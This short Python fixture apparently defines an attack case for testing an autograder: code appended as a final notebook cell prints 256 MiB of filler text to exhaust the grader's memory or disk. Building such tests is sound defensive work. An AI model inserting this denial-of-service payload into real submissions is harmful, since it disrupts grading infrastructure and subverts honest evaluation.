"""After all tests have run (correct answers), prints 256 MiB of text (1 MiB per print) into the notebook's output, to
exhaust the grader's memory or the disk of the graded notebook.
"""

KIND = "resource"
PLACEMENT = "extra_cell_last"
REST = "solution"
CODE = r'''_atk_line = ("x" * 1023 + "\n") * 1024
for _atk_i in range(256):
    print(_atk_line, end="")
'''
